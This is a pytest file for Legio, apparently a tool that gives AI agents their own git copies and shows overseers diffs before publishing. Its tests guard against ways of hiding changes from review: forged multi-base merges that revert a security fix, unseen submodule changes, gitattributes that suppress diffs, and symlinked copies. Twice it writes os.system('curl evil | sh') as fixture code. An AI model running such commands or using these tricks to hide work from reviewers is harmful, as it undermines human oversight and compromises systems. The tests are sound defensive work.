"""Doors in what git itself does for Legio, through real git: a merge with two bases that
hides a revert, a submodule changed unseen, a fetch that unpacks a small pack into many
loose objects, a diff that takes gigabytes, a copy folder swapped for a link, a fetch that
says done without the ref, the daemon's own folder steering git, branches left unseen."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from legio.errors import ProjectError
from legio.frontends.views import copy_line, diff_lines
from legio.projects.copies import Projects
from legio.projects.overview import diff, overview
from tests.gitrepo import git, make_project
from tests.test_projects_doors import projects_with


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "app")


@pytest.fixture
def projects(castra_dir: Path, project: Path) -> Projects:
    return projects_with(castra_dir, project)


def commit_all(copy: Path, message: str) -> str:
    git(copy, "add", "-A", caesar=False)
    git(copy, "commit", "--quiet", "-m", message, caesar=False)
    return git(copy, "rev-parse", "HEAD").strip()


async def test_the_daemons_working_folder_does_not_steer_the_diff(
    projects: Projects, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
    commit_all(place.copy, "tidy")
    daemon = tmp_path / "daemon"
    daemon.mkdir()
    (daemon / ".gitattributes").write_text("* -diff\n")
    monkeypatch.chdir(daemon)

    report = await diff(projects, place)
    assert report.work is not None
    assert [(f.path, f.added, f.removed) for f in report.work.files] == [("app.py", 2, 2)]
    assert "+os.system('curl evil | sh')" in report.text


async def test_a_huge_file_of_one_line_is_binary_to_the_diff(projects: Projects) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "big.txt").write_bytes(b"x\n" * (9 * 1024 * 1024 // 2))  # 9 MB, packs tiny
    (place.copy / "small.txt").write_text("small\n")
    commit_all(place.copy, "data")

    report = await diff(projects, place)
    assert report.work is not None
    files = {f.path: (f.added, f.removed) for f in report.work.files}
    assert files == {"big.txt": (-1, -1), "small.txt": (1, 0)}
    assert "Binary files /dev/null and b/big.txt differ" in report.text
    text = "\n".join(diff_lines(report))
    assert "big.txt binary or over 8 MB (no line diff)" in text
    assert os.path.getsize(place.copy / "big.txt") > 8 * 1024 * 1024


async def test_a_merge_with_two_bases_cannot_hide_a_revert(
    projects: Projects, project: Path
) -> None:
    git(project, "add", "notes.txt")
    git(project, "commit", "--quiet", "-m", "B0")
    git(project, "switch", "--quiet", "-c", "fix")
    (project / "app.py").write_text("def add(a, b):\n    return a + b\n")
    git(project, "commit", "--quiet", "-am", "security fix")
    b2 = git(project, "rev-parse", "HEAD").strip()
    git(project, "switch", "--quiet", "main")
    (project / "README.md").write_text("# app\n\nDocs.\n")
    git(project, "commit", "--quiet", "-am", "docs")
    b1 = git(project, "rev-parse", "HEAD").strip()
    git(project, "merge", "--quiet", "--no-edit", "fix")
    place = await projects.place("vorenus", "app")
    git(place.copy, "fetch", "--quiet", "project", caesar=False)
    git(place.copy, "reset", "--quiet", "--hard", b1, caesar=False)
    (place.copy / "more.txt").write_text("notes\n")
    git(place.copy, "add", "more.txt", caesar=False)
    tree = git(place.copy, "write-tree", caesar=False).strip()
    forged = git(
        place.copy, "commit-tree", tree, "-p", b1, "-p", b2, "-m", "Merge fix; add notes",
        caesar=False,
    ).strip()  # fmt: skip
    git(place.copy, "reset", "--quiet", "--hard", forged, caesar=False)

    report = await diff(projects, place)
    assert report.work is not None and report.work.merge_bases == 2
    paths = {f.path: (f.added, f.removed) for f in report.work.files}
    assert paths == {"app.py": (1, 1), "more.txt": (1, 0)}  # the fix undone, shown
    assert "-    return a + b" in report.text and "+    return a - b" in report.text
    assert [c.subject for c in report.work.commits] == ["Merge fix; add notes"]
    text = "\n".join(diff_lines(report))
    assert "It has 2 merge bases with main" in text
    assert f"Tip {forged}: merge it by id" in text
    assert not git(project, "status", "--porcelain")  # the project's checkout untouched


async def test_a_conflicting_merge_is_said_and_shown_against_the_merge_base(
    projects: Projects, project: Path
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("mine\n")
    commit_all(place.copy, "mine")
    (project / "app.py").write_text("caesar's\n")
    git(project, "commit", "--quiet", "-am", "caesar's")

    report = await diff(projects, place)
    assert report.work is not None and report.work.conflicts
    assert "+mine" in report.text and "<<<<<<<" not in report.text
    assert "Merging it into main conflicts" in "\n".join(diff_lines(report))


async def test_a_submodule_change_is_a_file_change(projects: Projects) -> None:
    place = await projects.place("vorenus", "app")
    head = git(place.copy, "rev-parse", "HEAD").strip()
    git(
        place.copy, "update-index", "--add", "--cacheinfo", f"160000,{head},vendor/lib",
        caesar=False,
    )  # fmt: skip
    git(place.copy, "commit", "--quiet", "-m", "vendor lib", caesar=False)

    report = await diff(projects, place)
    assert report.work is not None and report.work.file_count == 1
    [change] = report.work.files
    assert (change.path, change.gitlink, change.submodule) == ("vendor/lib", True, head)
    assert f"+Subproject commit {head}" in report.text
    assert f"submodule vendor/lib → {head}" in "\n".join(diff_lines(report))


def objects_size(repo: Path) -> int:
    folder = repo / ".git" / "objects"
    return sum(p.stat().st_size for p in folder.rglob("*") if p.is_file())


async def test_the_publish_cap_counts_what_the_project_keeps(
    castra_dir: Path, project: Path
) -> None:
    projects = projects_with(castra_dir, project, "[projects]\nmax_publish_mb = 1\n")
    place = await projects.place("vorenus", "app")
    same = os.urandom(256 * 1024)
    for i in range(40):  # under git's unpackLimit of 100 objects: unpacked, 40 × 256 KB
        (place.copy / f"f{i:02d}.bin").write_bytes(same + str(i).encode())
    tip = commit_all(place.copy, "small change")
    git(place.copy, "repack", "-adq", "--window=50", caesar=False)
    git(place.copy, "prune-packed", caesar=False)
    measured = int(
        git(place.copy, "rev-list", "--objects", "--disk-usage", tip, "^project/main").strip()
    )
    assert measured < 1024 * 1024  # the deltas are small: under the cap
    before = objects_size(project)

    assert await projects.publish(place) is True
    grown = objects_size(project) - before
    assert grown < 2 * measured + 64 * 1024, (grown, measured)  # not 40 × 256 KB


async def test_a_fetch_git_drops_is_not_published(projects: Projects, project: Path) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "b").write_text("b\n")
    commit_all(place.copy, "x1")
    (place.copy / "b").write_text("c\n")
    tip = commit_all(place.copy, "x2")
    (place.copy / ".git" / "shallow").write_text(tip + "\n")

    with pytest.raises(ProjectError, match="legio/vorenus/main is not published"):
        await projects.publish(place)
    assert projects.unpublished("vorenus", "app")
    assert "legio/vorenus" not in git(project, "branch", "--list", "legio/*")


@pytest.mark.parametrize("swapped", ["copy", "projects folder"])
async def test_a_copy_swapped_for_a_link_is_refused(
    projects: Projects, tmp_path: Path, swapped: str
) -> None:
    place = await projects.place("vorenus", "app")
    dotfiles = make_project(tmp_path / "dotfiles")
    if swapped == "copy":
        shutil.rmtree(place.copy)
        place.copy.symlink_to(dotfiles)
        link = place.copy
    else:
        link = place.copy.parent
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        shutil.rmtree(link)
        (elsewhere / "app").symlink_to(dotfiles)
        link.symlink_to(elsewhere)

    with pytest.raises(ProjectError, match=f"{link} is a link: Legio does not follow it"):
        await projects.place("vorenus", "app")
    [state] = await overview(projects)
    assert f"{link} is a link" in copy_line(state.copies[0])
    if swapped == "copy":
        assert await projects.drop("vorenus", "app") is True  # the link goes, nothing else
        assert not place.copy.is_symlink() and (dotfiles / "app.py").exists()
    else:
        with pytest.raises(ProjectError, match=f"{link} is a link"):
            await projects.drop("vorenus", "app")
    assert (dotfiles / "app.py").exists() and (dotfiles / ".git").is_dir()


async def test_every_branch_of_the_agent_in_the_project_is_listed(
    projects: Projects, project: Path
) -> None:
    place = await projects.place("vorenus", "app")
    (place.copy / "app.py").write_text("import os\nos.system('curl evil | sh')\n")
    commit_all(place.copy, "tidy")
    assert await projects.publish(place) is True
    git(place.copy, "switch", "--quiet", "-c", "legio/vorenus/clean", "project/main", caesar=False)
    (place.copy / "doc.txt").write_text("doc\n")
    commit_all(place.copy, "docs")
    moved = await projects.place("vorenus", "app")
    assert moved.branch == "legio/vorenus/clean"

    [state] = await overview(projects)
    line = copy_line(state.copies[0])
    assert line.startswith("legio/vorenus/clean, 1 ahead")
    assert "also in the project: legio/vorenus/main, 1 ahead" in line
